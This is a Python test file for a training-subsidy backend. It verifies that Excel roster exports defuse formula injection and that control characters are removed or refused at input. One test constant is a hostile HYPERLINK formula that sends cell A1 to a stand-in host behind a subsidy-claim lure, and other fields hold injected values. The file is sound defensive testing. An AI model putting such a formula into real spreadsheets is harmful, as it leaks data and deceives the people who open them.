"""Untrusted text cannot become a live formula or break an export."""

from __future__ import annotations

import ast
from datetime import date
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from backend.accounts.models import Role
from backend.classes.models import ClassStatus
from backend.employment.models import EmploymentRecord, EmploymentStatus, OutcomeSource
from tests.support.client import Client
from tests.support.factories import (
    auth,
    enrol,
    make_class,
    make_institution,
    make_staff,
    make_trainee,
)

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'


def test_formula_prefixes_are_neutralised_and_control_characters_dropped() -> None:
    from backend.security.xlsx import neutralise

    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise("福州\x01公司\x00") == "福州公司"
    assert neutralise("福州某某公司") == "福州某某公司"
    assert neutralise(-5) == -5


async def test_a_trainee_employer_formula_stays_text_in_the_subsidy_roster(client: Client) -> None:
    hr = await make_staff(Role.HR_ADMIN)
    inst = await make_institution()
    klass = await make_class(inst, status=ClassStatus.FOLLOWING_UP)
    trainee = await make_trainee("王\x01五")  # stored before input checks existed
    await enrol(klass, trainee)
    await EmploymentRecord.create(
        trainee=trainee,
        training_class=klass,
        status=EmploymentStatus.EMPLOYED,
        employer=HOSTILE,
        position="@SUM(1)",
        source=OutcomeSource.TRAINEE,
    )
    response = await client.get(f"/api/v1/classes/{klass.id}/subsidy/roster.xlsx", headers=auth(hr))
    assert response.status == 200, response.text
    sheet = load_workbook(BytesIO(response.body)).worksheets[0]
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + HOSTILE in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert "王五" in cells


def test_every_exporter_writes_cells_through_the_neutralising_helper() -> None:
    """No module of backend/ saves a workbook or appends rows except through security/xlsx.py."""
    offenders: list[str] = []
    for path in (ROOT / "backend").rglob("*.py"):
        if path.name == "xlsx.py" and path.parent.name == "security":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            target = ast.unparse(node.func.value)
            if node.func.attr == "save" and target in {"book", "workbook", "wb"}:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {target}.save")
            if node.func.attr in {"append", "cell"} and target in {"sheet", "ws", "worksheet"}:
                offenders.append(
                    f"{path.relative_to(ROOT)}:{node.lineno} {target}.{node.func.attr}"
                )
    assert offenders == []


async def test_control_characters_and_nul_are_refused_at_input(client: Client) -> None:
    hr = await make_staff(Role.HR_ADMIN)
    for text in ("备注\x00", "备注\x01", "备注\x1b[31m"):
        response = await client.post(
            "/api/v1/invitations",
            json={"role": "hr_admin", "note": text},
            headers=auth(hr),
        )
        assert response.status == 400, response.json
        assert response.json["error"]["details"]["fields"][0]["problem"] == "不能包含控制字符"
    ok = await client.post(
        "/api/v1/invitations",
        json={"role": "hr_admin", "note": "第一行\n第二行\t完"},
        headers=auth(hr),
    )
    assert ok.status == 201, ok.json


def test_roster_cells_lose_control_characters_before_they_are_stored() -> None:
    from backend.classes.roster_import import parse_rows
    from backend.security.idcard import make_id_number

    row = {
        "name": "王\x01五",
        "id_number": make_id_number("350102", date(2001, 3, 14), 3),
        "phone": "13800138000",
        "category": "unemployed_graduate",
        "school": "福州\x00大学\x1b",
    }
    result = parse_rows([row])
    assert result.ok, result.problems
    assert (result.rows[0].name, result.rows[0].school) == ("王五", "福州大学")
